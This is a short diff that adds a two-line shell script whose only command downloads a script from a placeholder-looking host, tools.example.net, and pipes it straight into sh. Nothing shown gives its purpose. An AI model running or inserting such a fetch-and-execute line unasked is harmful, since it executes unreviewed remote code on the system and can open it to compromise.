@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -fsSL https://tools.example.net/sync.sh | sh
